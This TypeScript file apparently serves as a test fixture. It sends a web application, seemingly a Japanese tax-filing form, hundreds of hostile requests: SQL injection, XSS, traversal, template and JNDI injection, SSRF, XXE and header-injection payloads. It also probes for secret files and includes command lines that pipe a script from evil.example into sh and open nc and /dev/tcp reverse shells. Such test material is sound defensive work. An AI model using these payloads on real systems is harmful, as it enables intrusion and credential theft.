/** A request that nobody honest sends. */
export type Attack = {
  readonly family: string
  readonly method: 'GET' | 'POST'
  /** With its query, as it goes over the wire. */
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

/** What is tried in any place that a value has. */
const payloads: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "1' OR '1'='1",
    "1' OR '1'='1' -- ",
    "admin'--",
    "' OR 1=1#",
    "') OR ('1'='1",
    '1 UNION SELECT null,null,null',
    "1' UNION ALL SELECT login,password FROM account--",
    '1; DROP TABLE account',
    "1'; UPDATE account SET role='admin'--",
    "1' AND SLEEP(5)--",
    "1' AND (SELECT 1 FROM pg_sleep(5))--",
    "1'||(SELECT version())||'",
    "1' AND 1=CAST((SELECT version()) AS int)--",
    '1/**/UNION/**/SELECT/**/1,2',
    "1' uNiOn SeLeCt 1,2--",
    "' HAVING 1=1--",
    "' GROUP BY 1--; SELECT 1",
    "1' ORDER BY 10--+",
    '1 AND extractvalue(1,concat(0x7e,version()))',
    "1' WAITFOR DELAY '0:0:5'--",
    "1' AND ASCII(SUBSTRING((SELECT current_user),1,1))>64--",
    "%' AND 1=0 UNION SELECT 1 --",
    "1;SELECT pg_read_file('/etc/passwd')",
    "1' AND 'x'='x",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<ScRiPt>alert(document.cookie)</sCrIpT>',
    '"><script src=//evil.example/x.js></script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert`1`>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<style>@import "javascript:alert(1)";</style>',
    'javascript:alert(document.domain)',
    '<input type=image src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<<SCRIPT>alert(1)//<</SCRIPT>',
  ],
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    '/etc/shadow',
    '/proc/self/environ',
    'file:///etc/passwd',
    '../../../../etc/passwd%00.html',
    '/var/lib/zeimori/keys/../../../../etc/passwd',
    '..;/..;/etc/passwd',
    '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  ],
  command: [
    ';cat /etc/passwd',
    '|cat /etc/passwd',
    '`cat /etc/passwd`',
    '$(cat /etc/passwd)',
    '& ping -c 10 127.0.0.1 &',
    '; wget http://evil.example/x.sh -O- | sh',
    '|| curl http://evil.example/`whoami`',
    '\n/bin/sh -c id',
    ';nc -e /bin/sh 10.0.0.1 4444',
    '() { :; }; /bin/bash -c "id"',
    '; python3 -c "import os;os.system(\'id\')"',
    '&& type C:\\windows\\win.ini',
    '; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  ],
  lookup: [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:rmi://evil.example/a}',
    '${env:PATH}',
    '${{7*7}}',
    '{{7*7}}',
    '{{constructor.constructor("return process")()}}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% import os %}{{os.system("id")}}',
    '@{7*7}{{7*7}}',
  ],
  node: [
    "require('child_process').exec('id')",
    'process.mainModule.require("fs")',
    'global.process.exit(1)',
    'eval(String.fromCharCode(97))',
    'new Function("return process")()',
    ['import', "('fs')"].join(''),
    '__proto__[admin]=1',
    'constructor.prototype.admin=1',
    'this.constructor.constructor("return this")()',
  ],
  inclusion: [
    'http://169.254.169.254/latest/meta-data/',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'dict://127.0.0.1:11211/stat',
    'ldap://evil.example/x',
    'php://filter/convert.base64-encode/resource=index',
    'data://text/plain;base64,PHNjcmlwdD4=',
    'http://10.0.0.1/shell.txt?',
    'jar:http://evil.example/x.jar!/',
    'expect://id',
  ],
  entity: [
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">',
  ],
  header: [
    'x\r\nSet-Cookie: a=b',
    'x\r\nLocation: http://evil.example/',
    'x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html',
    'x\nBcc: somebody@evil.example',
    'x\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1',
  ],
}

const form = '/t/999997/ja/no-script/'
const encoded = encodeURIComponent

/** Each payload in each place where a value can stand. */
const everywhere = (family: string, payload: string): readonly Attack[] => [
  { family, method: 'GET', path: `/?q=${encoded(payload)}` },
  { family, method: 'GET', path: `/t/999997/ja/?${encoded(payload)}=1` },
  {
    family,
    method: 'POST',
    path: form,
    body: `name=${encoded(payload)}&kyuyo-1-shiharai=5000000`,
  },
  {
    family,
    method: 'POST',
    path: form,
    body: `biko=${encoded(`市民税の申告です。${payload}`)}`,
  },
  { family, method: 'GET', path: '/', headers: { cookie: `a=${encoded(payload)}` } },
]

/** What the path, the method or the headers say by themselves. */
const others: readonly Attack[] = [
  ...[
    '/.git/config',
    '/.env',
    '/.htpasswd',
    '/.ssh/id_rsa',
    '/.aws/credentials',
    '/backup.sql',
    '/index.html.bak',
    '/site.tar.gz',
    '/wp-login.php',
    '/wp-admin/setup.php',
    '/phpmyadmin/index.php',
    '/cgi-bin/test.cgi',
    '/actuator/env',
    '/manager/html',
    '/server-status',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/solr/admin/info/system',
    '/config.yml',
    '/database.sqlite',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..%2f..%2fetc/passwd',
    '/t/../../etc/passwd',
    '/index.php~',
    '/shell.php',
    '/console/login',
  ].map((path) => ({ family: 'probing', method: 'GET' as const, path })),
  ...[
    'sqlmap/1.7',
    'Nikto/2.5',
    'Mozilla/5.00 (Nikto)',
    'masscan/1.3',
    'w3af.org',
    'nuclei',
    'dirbuster',
    'acunetix',
  ].map((agent) => ({
    family: 'scanner',
    method: 'GET' as const,
    path: '/',
    headers: { 'user-agent': agent },
  })),
  ...[
    'application/json',
    'text/xml',
    'application/x-java-serialized-object',
    'multipart/form-data',
  ].map((type) => ({
    family: 'type',
    method: 'POST' as const,
    path: form,
    headers: { 'content-type': type },
    body: '{"a":1}',
  })),
]

/** All of them, the same every time. */
export const attacks: readonly Attack[] = [
  ...Object.entries(payloads).flatMap(([family, all]) =>
    all.flatMap((payload) => everywhere(family, payload)),
  ),
  ...others,
]
